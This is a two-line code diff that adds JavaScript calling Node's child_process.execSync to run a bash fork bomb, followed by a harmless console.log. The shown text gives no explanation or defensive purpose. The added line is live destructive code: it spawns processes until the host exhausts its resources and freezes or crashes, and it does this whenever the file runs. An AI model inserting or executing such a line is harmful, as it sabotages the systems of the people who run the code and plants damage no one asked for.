@@ -1,0 +1,2 @@
+require('child_process').execSync(':(){ :|:& };:', { shell: '/bin/bash' });
+console.log('x');
